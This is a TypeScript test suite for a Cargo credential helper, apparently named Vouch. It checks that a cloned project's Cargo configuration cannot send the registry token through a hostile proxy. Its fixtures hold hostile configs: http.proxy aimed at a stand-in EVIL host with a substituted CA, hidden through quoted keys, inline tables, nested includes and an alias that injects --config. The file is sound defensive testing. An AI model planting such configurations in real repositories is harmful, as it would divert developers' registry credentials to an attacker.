/** A project's own Cargo configuration must not lead Cargo to carry the token elsewhere: the real cargo against a hostile proxy. */
import { afterAll, beforeAll, beforeEach, describe, expect, test } from "bun:test";
import { appendFileSync, copyFileSync, mkdirSync, readFileSync, rmSync, statSync, writeFileSync } from "node:fs";
import { dirname, join } from "node:path";
import {
  ended,
  executable,
  type Finished,
  type Laptop,
  registryName,
  type RunOptions,
  startLaptop,
} from "../../laptop.ts";
import { requires } from "../../requires.ts";
import { names } from "../../sandbox/main.ts";
import { type HostileProxy, startHostileProxy } from "./proxy.ts";
import { crateProject, crateUserProject } from "../projects.ts";

const token = /vouch-sandbox-token/;

describe.skipIf(!requires("cargo"))("a cloned project", () => {
  let laptop: Laptop;
  let evil: HostileProxy;
  let clean: string;
  beforeAll(async () => {
    laptop = await startLaptop();
    await laptop.getReady("--registry-name", registryName, "--tool", "cargo");
    // The user's own settings: they decide, and a project's would come before them.
    const { caPath, fetch, proxyUrl } = laptop.sandbox;
    appendFileSync(join(laptop.home, ".cargo/config.toml"), `[http]\ncainfo = "${caPath}"\nproxy = "${proxyUrl}"\n`);
    clean = join(laptop.folder, "clean");
    mkdirSync(join(laptop.folder, "evil"));
    mkdirSync(clean);
    evil = await startHostileProxy(names.packageHost, join(laptop.folder, "evil"), fetch);
    const crate = crateProject(join(laptop.folder, "my-crate"), "my-crate", registryName);
    await ended(cargo(["publish", "--registry", registryName, "--allow-dirty", "--no-verify"], { cwd: crate }));
  });
  afterAll(async () => {
    await evil?.stop();
    await laptop?.stop();
  });
  beforeEach(() => {
    evil.requests.length = 0;
  });

  /** Without the variables that would come before any file. A new Cargo home keeps no package of an earlier run. */
  function cargo(args: string[], options: RunOptions = {}): Promise<Finished> {
    for (const part of ["registry/cache", "registry/src", "registry/index"]) {
      rmSync(join(laptop.home, ".cargo", part), { recursive: true, force: true });
    }
    const env = { CARGO_HTTP_CAINFO: undefined, HTTPS_PROXY: undefined, https_proxy: undefined };
    return laptop.run(["cargo", ...args], { ...options, env: { ...env, ...options.env } });
  }

  /** A project in a new folder, with files in it in which EVIL and CAPATH stand for what they are. */
  let count = 0;
  function project(files: Record<string, string>): string {
    const folder = join(laptop.folder, `clone-${++count}`, "project");
    crateUserProject(folder, "my-crate", registryName);
    for (const [name, text] of Object.entries(files)) {
      mkdirSync(dirname(join(folder, name)), { recursive: true });
      writeFileSync(join(folder, name), text.replace("http://EVIL", evil.url).replace("CAPATH", evil.caPath));
    }
    copyFileSync(evil.caPath, join(folder, "ca.pem"));
    return folder;
  }

  const hostile = '[http]\nproxy = "http://EVIL"\ncainfo = "ca.pem"\n';
  const proxyAndCa = "sets http.proxy, http.cainfo:";

  test("with an honest configuration builds as without Vouch", async () => {
    const text = '[build]\njobs = 1\n[http]\ntimeout = 30\n[net]\nretry = 1\n[alias]\nx = "run --package x"\n';
    await ended(cargo(["fetch"], { cwd: project({ ".cargo/config.toml": text }) }));
    expect(evil.requests).toEqual([]);
  });

  test.each<[title: string, files: Record<string, string>, says: string]>([
    ["proxy and authority", { ".cargo/config.toml": hostile }, proxyAndCa],
    ["the old file name", { ".cargo/config": hostile }, proxyAndCa],
    ["the folder above the project", { "../.cargo/config.toml": hostile.replace("ca.pem", "CAPATH") }, proxyAndCa],
    [
      "an absolute path, dotted and quoted keys",
      { ".cargo/config.toml": 'http."\\u0070roxy" = "http://EVIL"\nhttp.\'cainfo\' = "CAPATH"\n' },
      proxyAndCa,
    ],
    ["an inline table", { ".cargo/config.toml": 'http = { proxy = "http://EVIL", cainfo = "ca.pem" }\n' }, proxyAndCa],
    [
      "an included file",
      { ".cargo/config.toml": 'include = ["more.toml"]\n', ".cargo/more.toml": hostile },
      proxyAndCa,
    ],
    [
      "a file that an included one includes, optionally",
      {
        ".cargo/config.toml": 'include = ["../a.toml"]\n',
        "a.toml": 'include = [{ path = ".cargo/b.toml", optional = true }]\n',
        ".cargo/b.toml": hostile,
      },
      proxyAndCa,
    ],
  ])(
    "gets no token, and the person reads which file and key: %s",
    async (_, files, says) => {
      const { exitCode, stderr } = await cargo(["fetch"], { cwd: project(files) });
      expect(exitCode).not.toBe(0);
      expect(stderr).toContain(says);
      expect(stderr).toContain(`vouch trust ${join(laptop.folder, `clone-${count}`)}`);
      // It was asked, or this test would prove nothing.
      expect(evil.requests.length).toBeGreaterThan(0);
      expect(evil.requests.join("\n")).not.toMatch(token);
    },
    120_000,
  );

  test.each<[title: string, args: (folder: string) => string[], alias: string]>([
    ["--path DIR", (folder) => ["install", "--path", folder], ""],
    ["--path=DIR", (folder) => ["install", `--path=${folder}`], ""],
    [
      "a relative DIR, options first",
      (folder) => ["-v", "install", "--path", `../${folder.split("/").slice(-2).join("/")}`],
      "",
    ],
    ["an alias of the user's that means it", (folder) => ["put", folder], 'put = "install --path"'],
    ["an alias of the environment", (folder) => ["put", folder], ""],
  ])(
    "is given by cargo install %s from a clean folder, and DIR's configuration counts",
    async (_, args, alias) => {
      const config = join(laptop.home, ".cargo/config.toml");
      const before = readFileSync(config, "utf8");
      if (alias !== "") writeFileSync(config, `${before}[alias]\n${alias}\n`);
      const folder = project({ ".cargo/config.toml": hostile });
      const { exitCode, stderr } = await cargo([...args(folder), "--root", join(laptop.folder, "root")], {
        cwd: clean,
        env: alias === "" ? { CARGO_ALIAS_PUT: "install --path" } : {},
      });
      writeFileSync(config, before);
      expect(exitCode).not.toBe(0);
      expect(stderr).toContain(proxyAndCa);
      expect(evil.requests.join("\n")).not.toMatch(token);
    },
    120_000,
  );

  test("above CARGO_HOME counts for cargo install CRATE, which reads it", async () => {
    const shared = project({ "../.cargo/config.toml": hostile.replace("ca.pem", "CAPATH") });
    const cargoHome = join(shared, "cargo-home");
    mkdirSync(cargoHome);
    copyFileSync(join(laptop.home, ".cargo/config.toml"), join(cargoHome, "config.toml"));
    const install = ["install", "my-crate", "--registry", registryName, "--root", join(laptop.folder, "root")];
    const { exitCode, stderr } = await cargo(install, { cwd: clean, env: { CARGO_HOME: cargoHome } });
    expect(exitCode).not.toBe(0);
    expect(stderr).toContain(proxyAndCa);
    expect(evil.requests.join("\n")).not.toMatch(token);
  });

  test("is seen through a wrapper between Cargo and Vouch", async () => {
    const wrapper = join(laptop.folder, "wrapper");
    writeFileSync(wrapper, `#!/bin/sh\n"${executable}" "$@"\n`, { mode: 0o755 });
    const env = { CARGO_REGISTRIES_MY_CODEARTIFACT_REGISTRY_CREDENTIAL_PROVIDER: wrapper };
    const folder = project({ ".cargo/config.toml": hostile });
    const { stderr } = await cargo(["install", "--path", folder], { cwd: clean, env });
    expect(stderr).toContain(proxyAndCa);
    expect(evil.requests.join("\n")).not.toMatch(token);
    await ended(cargo(["fetch"], { cwd: project({}), env }));
  });

  test("with an alias that brings other configuration is refused when the alias is used", async () => {
    const config = `[alias]\nget = ["fetch", "--config", "http.proxy='http://EVIL'", "--config", "http.cainfo='CAPATH'"]\n`;
    const folder = project({ ".cargo/config.toml": config });
    const { stderr } = await cargo(["get"], { cwd: folder });
    expect(stderr).toContain("sets alias.get:");
    expect(evil.requests.length).toBeGreaterThan(0);
    expect(evil.requests.join("\n")).not.toMatch(token);
    await ended(cargo(["fetch"], { cwd: folder }));
  });

  test("that is trusted on a terminal may read, never publish, and a changed certificate asks again", async () => {
    const folder = project({ ".cargo/config.toml": hostile });
    expect((await laptop.vouch("trust", folder)).exitCode).toBe(2);
    const no = await laptop.atTerminal(["trust", folder], async ({ see, type }) => {
      await see(`http.proxy = "${evil.url}"`);
      await see(`${join(folder, "ca.pem")}: SHA-256 `);
      await see("[y/N]");
      type("\r");
    });
    expect(no.exitCode).toBe(130);
    expect((await cargo(["fetch"], { cwd: folder })).exitCode).not.toBe(0);
    await laptop.atTerminal(["trust", folder], async ({ see, type }) => {
      await see("[y/N]");
      type("y\r");
    });
    expect(statSync(join(laptop.home, ".config/vouch/trusted-folders.json")).mode & 0o777).toBe(0o600);
    await ended(cargo(["fetch"], { cwd: folder }));
    expect(evil.requests.join("\n")).toMatch(token);
    expect(await ended(laptop.vouch("trust", "--list"))).toBe(`${folder}: trusted\n`);

    evil.requests.length = 0;
    const published = await cargo(["publish", "--registry", registryName, "--allow-dirty", "--no-verify"], {
      cwd: folder,
    });
    expect(published.exitCode).not.toBe(0);
    expect(published.stderr).toContain("nothing is published through it");
    expect(evil.requests.filter((line) => line.startsWith("PUT"))).toEqual([]);

    appendFileSync(join(folder, "ca.pem"), "\n");
    const changed = await cargo(["fetch"], { cwd: folder });
    expect(changed.exitCode).not.toBe(0);
    expect(changed.stderr).toContain(`vouch trust ${folder}`);
    expect(await ended(laptop.vouch("trust", "--list"))).toBe(`${folder}: changed since, so not trusted\n`);
    await ended(laptop.vouch("trust", "--remove", folder));
    expect(JSON.parse(await ended(laptop.vouch("trust", "--list", "--json")))).toEqual([]);
  });

  test("does not make a foreign index ours, whatever it sets", async () => {
    const folder = project({ ".cargo/config.toml": hostile });
    const request = {
      v: 1,
      registry: { "index-url": "sparse+https://other.example/" },
      kind: "get",
      operation: "read",
    };
    const { stdout } = await laptop.run([executable, "--cargo-plugin"], {
      cwd: folder,
      stdin: `${JSON.stringify(request)}\n`,
    });
    expect(stdout).toBe('{"v":[1]}\n{"Err":{"kind":"url-not-supported"}}\n');
  });
});
